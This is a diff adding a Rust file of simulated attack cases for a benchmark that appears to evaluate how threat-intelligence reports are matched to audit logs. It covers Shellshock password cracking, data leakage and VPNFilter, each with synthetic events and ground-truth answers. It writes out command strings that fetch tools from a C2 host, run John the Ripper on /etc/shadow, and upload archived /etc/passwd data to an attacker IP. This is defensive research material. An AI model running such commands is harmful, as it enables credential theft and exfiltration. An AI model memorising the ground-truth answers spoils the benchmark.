@@ -1,0 +1,250 @@
+//! The three multi-step intrusive attacks the paper performed itself
+//! (Cyber Kill Chain + CVE based): password cracking and data leakage after
+//! Shellshock penetration, and VPNFilter.
+
+use raptor_audit::sim::Simulator;
+use raptor_extract::IocType::*;
+
+use super::{burst_gap, fork_self};
+use crate::spec::CaseSpec;
+
+fn password_crack_attack(sim: &mut Simulator) {
+    let shell = sim.boot_process("/bin/bash", "www-data");
+    // Dropbox image with the C2 address in its EXIF metadata.
+    let wget = sim.spawn(shell, "/usr/bin/wget", "wget https://dropbox/photo.jpg");
+    let fd = sim.connect(wget, "162.125.6.6", 443);
+    sim.recv(wget, fd, 262_144, 4);
+    sim.close(wget, fd);
+    burst_gap(sim);
+    sim.write_file(wget, "/tmp/photo.jpg", 262_144, 4);
+    sim.exit(wget);
+    burst_gap(sim);
+    let exif = sim.spawn(shell, "/usr/bin/exif", "exif /tmp/photo.jpg");
+    sim.read_file(exif, "/tmp/photo.jpg", 262_144, 2);
+    sim.exit(exif);
+    burst_gap(sim);
+    // Password cracker from the C2.
+    let curl = sim.spawn(shell, "/usr/bin/curl", "curl http://c2/john.zip");
+    let fd = sim.connect(curl, "192.168.29.100", 80);
+    sim.recv(curl, fd, 1_048_576, 8);
+    sim.close(curl, fd);
+    burst_gap(sim);
+    sim.write_file(curl, "/tmp/john.zip", 1_048_576, 8);
+    sim.exit(curl);
+    burst_gap(sim);
+    let unzip = sim.spawn(shell, "/usr/bin/unzip", "unzip /tmp/john.zip");
+    sim.read_file(unzip, "/tmp/john.zip", 1_048_576, 4);
+    burst_gap(sim);
+    sim.write_file(unzip, "/tmp/john/john", 2_097_152, 4);
+    sim.exit(unzip);
+    burst_gap(sim);
+    // The cracker runs against the shadow file: 3 separate read bursts,
+    // plus 2 fork-only worker starts the synthesized query cannot see.
+    let john = sim.spawn(shell, "/tmp/john/john", "john /etc/shadow");
+    fork_self(sim, john, 2);
+    for _ in 0..3 {
+        sim.read_file(john, "/etc/shadow", 16_384, 2);
+        burst_gap(sim);
+    }
+    sim.exit(john);
+}
+
+fn data_leak_attack(sim: &mut Simulator) {
+    let shell = sim.boot_process("/bin/bash", "www-data");
+    let tar = sim.spawn(shell, "/bin/tar", "tar cf /tmp/upload.tar /etc/passwd");
+    sim.read_file(tar, "/etc/passwd", 65_536, 4);
+    burst_gap(sim);
+    sim.write_file(tar, "/tmp/upload.tar", 65_536, 4);
+    sim.exit(tar);
+    burst_gap(sim);
+    let bzip = sim.spawn(shell, "/bin/bzip2", "bzip2 /tmp/upload.tar");
+    sim.read_file(bzip, "/tmp/upload.tar", 65_536, 4);
+    burst_gap(sim);
+    sim.write_file(bzip, "/tmp/upload.tar.bz2", 32_768, 4);
+    sim.exit(bzip);
+    burst_gap(sim);
+    // GnuPG delegates the actual I/O to a helper process the CTI report
+    // does not mention — the paper's recall gap (6/8) and the motivation
+    // for variable-length path patterns.
+    let gpg = sim.spawn(shell, "/usr/bin/gpg", "gpg -c /tmp/upload.tar.bz2");
+    let helper = sim.spawn(gpg, "/usr/libexec/gpg-helper", "gpg-helper");
+    sim.read_file(helper, "/tmp/upload.tar.bz2", 32_768, 4);
+    burst_gap(sim);
+    sim.write_file(helper, "/tmp/upload", 32_768, 4);
+    sim.exit(helper);
+    sim.exit(gpg);
+    burst_gap(sim);
+    let curl = sim.spawn(shell, "/usr/bin/curl", "curl -T /tmp/upload");
+    sim.read_file(curl, "/tmp/upload", 32_768, 4);
+    burst_gap(sim);
+    let fd = sim.connect(curl, "192.168.29.128", 443);
+    sim.send(curl, fd, 32_768, 8);
+    sim.close(curl, fd);
+    sim.exit(curl);
+}
+
+fn vpnfilter_attack(sim: &mut Simulator) {
+    let shell = sim.boot_process("/bin/sh", "root");
+    let wget = sim.spawn(shell, "/usr/bin/wget", "wget http://c2/vpnf_stage1");
+    let fd = sim.connect(wget, "216.58.44.227", 80);
+    sim.recv(wget, fd, 524_288, 4);
+    sim.close(wget, fd);
+    burst_gap(sim);
+    sim.write_file(wget, "/tmp/vpnf_stage1", 524_288, 4);
+    sim.exit(wget);
+    burst_gap(sim);
+    let stage1 = sim.spawn(shell, "/tmp/vpnf_stage1", "vpnf_stage1");
+    // Stage 1 pulls the photobucket image and parses its EXIF metadata.
+    let fd = sim.connect(stage1, "158.85.33.190", 443);
+    sim.recv(stage1, fd, 131_072, 4);
+    sim.close(stage1, fd);
+    sim.write_file(stage1, "/tmp/update.png", 131_072, 4);
+    burst_gap(sim);
+    sim.read_file(stage1, "/tmp/update.png", 131_072, 2);
+    burst_gap(sim);
+    sim.write_file(stage1, "/tmp/vpnf_stage2", 262_144, 4);
+    burst_gap(sim);
+    // Stage 2 keeps a persistent C2 channel: 174 reconnects.
+    let stage2 = sim.spawn(stage1, "/tmp/vpnf_stage2", "vpnf_stage2");
+    for _ in 0..174 {
+        let fd = sim.connect(stage2, "217.12.202.40", 443);
+        sim.send(stage2, fd, 256, 1);
+        sim.close(stage2, fd);
+        burst_gap(sim);
+    }
+    sim.exit(stage2);
+    sim.exit(stage1);
+}
+
+pub static CASES: [CaseSpec; 3] = [
+    CaseSpec {
+        id: "password_crack",
+        name: "Password Cracking After Shellshock Penetration",
+        report: "After the Shellshock penetration, the attacker used /usr/bin/wget to \
+connect to the cloud service 162.125.6.6. It wrote the retrieved image to \
+/tmp/photo.jpg. /usr/bin/exif read from /tmp/photo.jpg. Then the attacker used \
+/usr/bin/curl to connect to the C2 server 192.168.29.100. It wrote the cracker \
+archive to /tmp/john.zip. The stage library /tmp/libfoo.so downloaded /tmp/john.zip \
+as well. /usr/bin/unzip read from /tmp/john.zip and wrote to /tmp/john/john. \
+Finally, the attacker used /tmp/john/john to read /etc/shadow.",
+        gt_entities: &[
+            ("/usr/bin/wget", FilePath),
+            ("162.125.6.6", Ip),
+            ("/tmp/photo.jpg", FilePath),
+            ("/usr/bin/exif", FilePath),
+            ("/usr/bin/curl", FilePath),
+            ("192.168.29.100", Ip),
+            ("/tmp/john.zip", FilePath),
+            ("/tmp/libfoo.so", FilePath),
+            ("/tmp/john/john", FilePath),
+            ("/usr/bin/unzip", FilePath),
+            ("/etc/shadow", FilePath),
+        ],
+        gt_relations: &[
+            ("/usr/bin/wget", "connect", "162.125.6.6"),
+            ("/usr/bin/wget", "write", "/tmp/photo.jpg"),
+            ("/usr/bin/exif", "read", "/tmp/photo.jpg"),
+            ("/usr/bin/curl", "connect", "192.168.29.100"),
+            ("/usr/bin/curl", "write", "/tmp/john.zip"),
+            ("/tmp/libfoo.so", "download", "/tmp/john.zip"),
+            ("/usr/bin/unzip", "read", "/tmp/john.zip"),
+            ("/usr/bin/unzip", "write", "/tmp/john/john"),
+            ("/tmp/john/john", "read", "/etc/shadow"),
+        ],
+        gt_events: &[
+            ("/usr/bin/wget", "connect", "162.125.6.6"),
+            ("/usr/bin/wget", "write", "/tmp/photo.jpg"),
+            ("/usr/bin/exif", "read", "/tmp/photo.jpg"),
+            ("/usr/bin/curl", "connect", "192.168.29.100"),
+            ("/usr/bin/curl", "write", "/tmp/john.zip"),
+            ("/usr/bin/unzip", "read", "/tmp/john.zip"),
+            ("/usr/bin/unzip", "write", "/tmp/john/john"),
+            ("/tmp/john/john", "read", "/etc/shadow"),
+            ("/tmp/john/john", "start", "/tmp/john/john"),
+        ],
+        attack: password_crack_attack,
+        noise_sessions: 320,
+    },
+    CaseSpec {
+        id: "data_leak",
+        name: "Data Leakage After Shellshock Penetration",
+        report: "After the lateral movement stage, the attacker attempts to steal valuable \
+assets from the host. As a first step, the attacker used /bin/tar to read user \
+credentials from /etc/passwd. It wrote the gathered information to a file \
+/tmp/upload.tar. /bin/bzip2 read from /tmp/upload.tar and wrote to \
+/tmp/upload.tar.bz2. This corresponds to the launched process /usr/bin/gpg reading \
+from /tmp/upload.tar.bz2. /usr/bin/gpg then wrote the sensitive information to \
+/tmp/upload. Finally, the attacker leveraged /usr/bin/curl to read the data from \
+/tmp/upload. He leaked the gathered sensitive information back to the attacker C2 \
+host by using /usr/bin/curl to connect to 192.168.29.128.",
+        gt_entities: &[
+            ("/bin/tar", FilePath),
+            ("/etc/passwd", FilePath),
+            ("/tmp/upload.tar", FilePath),
+            ("/bin/bzip2", FilePath),
+            ("/tmp/upload.tar.bz2", FilePath),
+            ("/usr/bin/gpg", FilePath),
+            ("/tmp/upload", FilePath),
+            ("/usr/bin/curl", FilePath),
+            ("192.168.29.128", Ip),
+        ],
+        gt_relations: &[
+            ("/bin/tar", "read", "/etc/passwd"),
+            ("/bin/tar", "write", "/tmp/upload.tar"),
+            ("/bin/bzip2", "read", "/tmp/upload.tar"),
+            ("/bin/bzip2", "write", "/tmp/upload.tar.bz2"),
+            ("/usr/bin/gpg", "read", "/tmp/upload.tar.bz2"),
+            ("/usr/bin/gpg", "write", "/tmp/upload"),
+            ("/usr/bin/curl", "read", "/tmp/upload"),
+            ("/usr/bin/curl", "connect", "192.168.29.128"),
+        ],
+        gt_events: &[
+            ("/bin/tar", "read", "/etc/passwd"),
+            ("/bin/tar", "write", "/tmp/upload.tar"),
+            ("/bin/bzip2", "read", "/tmp/upload.tar"),
+            ("/bin/bzip2", "write", "/tmp/upload.tar.bz2"),
+            ("/usr/libexec/gpg-helper", "read", "/tmp/upload.tar.bz2"),
+            ("/usr/libexec/gpg-helper", "write", "/tmp/upload"),
+            ("/usr/bin/curl", "read", "/tmp/upload"),
+            ("/usr/bin/curl", "connect", "192.168.29.128"),
+        ],
+        attack: data_leak_attack,
+        noise_sessions: 320,
+    },
+    CaseSpec {
+        id: "vpnfilter",
+        name: "VPNFilter",
+        report: "The attacker used /usr/bin/wget to fetch the VPNFilter stage 1 malware \
+/tmp/vpnf_stage1 from 216.58.44.227. /tmp/vpnf_stage1 read the update image \
+/tmp/update.png from photobucket.com. It wrote the stage 2 malware to \
+/tmp/vpnf_stage2. /tmp/vpnf_stage2 connected to 217.12.202.40.",
+        gt_entities: &[
+            ("/usr/bin/wget", FilePath),
+            ("/tmp/vpnf_stage1", FilePath),
+            ("216.58.44.227", Ip),
+            ("/tmp/update.png", FilePath),
+            ("photobucket.com", Domain),
+            ("/tmp/vpnf_stage2", FilePath),
+            ("217.12.202.40", Ip),
+        ],
+        gt_relations: &[
+            ("/usr/bin/wget", "fetch", "/tmp/vpnf_stage1"),
+            ("/usr/bin/wget", "fetch", "216.58.44.227"),
+            ("/tmp/vpnf_stage1", "fetch", "216.58.44.227"),
+            ("/tmp/vpnf_stage1", "read", "/tmp/update.png"),
+            ("/tmp/vpnf_stage1", "read", "photobucket.com"),
+            ("/tmp/update.png", "read", "photobucket.com"),
+            ("/tmp/vpnf_stage1", "write", "/tmp/vpnf_stage2"),
+            ("/tmp/vpnf_stage2", "connect", "217.12.202.40"),
+        ],
+        gt_events: &[
+            ("/usr/bin/wget", "write", "/tmp/vpnf_stage1"),
+            ("/usr/bin/wget", "read", "216.58.44.227"),
+            ("/tmp/vpnf_stage1", "read", "/tmp/update.png"),
+            ("/tmp/vpnf_stage1", "write", "/tmp/vpnf_stage2"),
+            ("/tmp/vpnf_stage2", "connect", "217.12.202.40"),
+        ],
+        attack: vpnfilter_attack,
+        noise_sessions: 320,
+    },
+];
